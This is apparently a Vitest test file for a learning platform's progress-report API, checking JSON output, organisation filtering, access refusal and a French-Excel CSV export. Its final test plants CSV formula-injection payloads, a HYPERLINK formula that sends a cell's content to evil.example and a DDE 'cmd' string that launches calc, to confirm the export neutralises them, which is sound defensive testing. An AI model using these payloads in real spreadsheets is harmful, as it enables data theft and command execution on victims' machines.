import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { buildTestApp, type TestContext } from '../helpers/app';
import { learners } from '../../src/learners/learners.tables';
import { answer, attend, EVENTS, learnerAuth } from '../badges/helpers';

let ctx: TestContext;
let headers: { authorization: string };
let learnerId: string;
beforeAll(async () => {
  ctx = await buildTestApp();
  headers = await ctx.adminAuth();
  const db = ctx.database.db;
  learnerId = await attend(ctx, 'helene@valbrune.example', ['webinaire-1', 'webinaire-2', 'atelier-juridique']);
  await answer(ctx, learnerAuth(ctx, learnerId), 'quiz-juridique');
  await db
    .update(learners)
    .set({ name: 'Hélène Lefèvre', organisation: 'Mairie de Valbrune' })
    .where(eq(learners.id, learnerId));
  const other = await attend(ctx, 'marc@cc-lacs.example', ['webinaire-1']);
  await attend(ctx, 'marc@cc-lacs.example', ['webinaire-2'], 'replay');
  // A name from an imported file must not become a formula in Excel.
  await db
    .update(learners)
    .set({ name: '=HYPERLINK("http://x")', organisation: 'CC des Lacs' })
    .where(eq(learners.id, other));
});
afterAll(async () => ctx?.close());

describe('GET /api/reports/progress', () => {
  it('[200] gives the cohort matrix: learner × event × questionnaire × badge', async () => {
    const res = await ctx.app.inject({ url: '/api/reports/progress', headers });
    expect(res.statusCode).toBe(200);
    const report = res.json();
    expect(report.organisations).toEqual(['CC des Lacs', 'Mairie de Valbrune']);
    expect(report.events.map((e: { key: string }) => e.key).sort()).toEqual([...EVENTS].sort());
    expect(report.quizzes.find((q: { key: string }) => q.key === 'quiz-juridique').label).toBe('Atelier 1');
    expect(report.badges.find((b: { key: string }) => b.key === 'data-juridique')).toMatchObject({
      name: 'data juridique',
      earned: 1,
    });
    const helene = report.learners.find((l: { id: string }) => l.id === learnerId);
    expect(helene).toMatchObject({
      email: 'helene@valbrune.example',
      organisation: 'Mairie de Valbrune',
      events: {
        'webinaire-1': 'present',
        'webinaire-2': 'present',
        'atelier-juridique': 'present',
        'atelier-admin': null,
      },
      quizzes: { 'quiz-juridique': { percent: 100, complete: true }, 'quiz-admin': null },
      badges: {
        'data-juridique': { status: 'earned', percent: 100 },
        'data-admin': { status: 'in_progress', percent: 50 },
      },
    });
  });

  it('[200] filters by organisation', async () => {
    const res = await ctx.app.inject({
      url: `/api/reports/progress?organisation=${encodeURIComponent('CC des Lacs')}`,
      headers,
    });
    expect(res.json().organisation).toBe('CC des Lacs');
    expect(res.json().learners.map((l: { email: string }) => l.email)).toEqual(['marc@cc-lacs.example']);
    expect(res.json().badges.every((b: { earned: number }) => b.earned === 0)).toBe(true);
  });

  it('[403] a learner calling an organiser report gets a clear refusal', async () => {
    for (const url of ['/api/reports/progress', '/api/reports/progress.csv']) {
      const res = await ctx.app.inject({ url, headers: learnerAuth(ctx, learnerId) });
      expect(res.statusCode).toBe(403);
      expect(res.json()).toMatchObject({ code: 'AUTH_FORBIDDEN', message: 'Vous n’avez pas accès à cette ressource.' });
    }
  });
});

describe('GET /api/reports/progress.csv', () => {
  it('[200] is a CSV that French Excel opens: UTF-8 with BOM, `;`, CRLF, French headers, decimal comma', async () => {
    const res = await ctx.app.inject({ url: '/api/reports/progress.csv', headers });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="progression\.csv"/);
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.split('\r\n')).toHaveLength(4); // header, two learners, final CRLF
    expect(text).not.toMatch(/[^\r]\n/);
    const { data } = Papa.parse<string[]>(text.trimEnd(), { delimiter: ';' });
    const [header, ...rows] = data;
    expect(header!.slice(0, 4)).toEqual(['Nom', 'E-mail', 'Organisation', 'Présence — Webinaire #1']);
    expect(header).toContain('Questionnaire — Atelier 1 (%)');
    expect(header).toContain('Badge — data juridique');
    const byEmail = new Map(rows.map((r) => [r[1], Object.fromEntries(header!.map((h, i) => [h, r[i]]))]));
    expect(byEmail.get('helene@valbrune.example')).toMatchObject({
      Nom: 'Hélène Lefèvre',
      'Présence — Webinaire #2': 'présent',
      'Questionnaire — Atelier 1 (%)': '100',
      'Badge — data juridique': 'obtenu',
      'Badge — data admin': 'en cours (50 %)',
      'Badge — parcours data': 'en cours (66 %)',
    });
    const marc = byEmail.get('marc@cc-lacs.example')!;
    expect(marc).toMatchObject({ 'Présence — Webinaire #2': 'replay', 'Présence — Atelier 3': '' });
    expect(marc.Nom).toBe('\'=HYPERLINK("http://x")');
  });

  it('[200] follows the organisation filter', async () => {
    const res = await ctx.app.inject({ url: '/api/reports/progress.csv?organisation=Mairie%20de%20Valbrune', headers });
    expect(res.body.split('\r\n').filter(Boolean)).toHaveLength(2);
    expect(res.headers['content-disposition']).toContain("filename*=UTF-8''progression-Mairie-de-Valbrune.csv");
  });

  it('[200] neutralises every text cell that starts like a formula, even followed by a line break', async () => {
    const db = ctx.database.db;
    const [marc] = await db.select().from(learners).where(eq(learners.email, 'marc@cc-lacs.example'));
    const hostile = '=HYPERLINK("http://evil.example/?x="&C2,"Cliquez")\nsuite';
    try {
      await db
        .update(learners)
        .set({ name: hostile, organisation: "@SUM(1+1)*cmd|' /C calc'!A0" })
        .where(eq(learners.id, marc!.id));
      const res = await ctx.app.inject({ url: '/api/reports/progress.csv', headers });
      const { data } = Papa.parse<string[]>(res.rawPayload.toString('utf8').slice(1).trimEnd(), {
        delimiter: ';',
        newline: '\r\n',
      });
      const [header, ...rows] = data;
      const row = rows.find((r) => r[1] === 'marc@cc-lacs.example')!;
      expect(row[0]).toBe(`'${hostile}`);
      expect(row[2]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      // Legitimate values stay as they were: names, e-mails, labels, numbers.
      const helene = rows.find((r) => r[1] === 'helene@valbrune.example')!;
      expect(helene[0]).toBe('Hélène Lefèvre');
      expect(helene[header!.indexOf('Questionnaire — Atelier 1 (%)')]).toBe('100');
      expect(data.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    } finally {
      await db
        .update(learners)
        .set({ name: marc!.name, organisation: marc!.organisation })
        .where(eq(learners.id, marc!.id));
    }
  });
});
